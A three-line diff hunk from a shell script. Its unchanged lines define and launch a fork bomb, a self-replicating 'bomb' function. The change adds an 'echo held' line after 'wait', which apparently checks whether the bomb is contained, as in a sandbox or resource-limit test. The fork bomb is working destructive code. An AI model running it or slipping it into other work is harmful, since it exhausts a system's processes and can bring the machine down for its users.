@@ -5,3 +5,4 @@
 bomb() { bomb | bomb & }
 bomb
 wait
+echo held
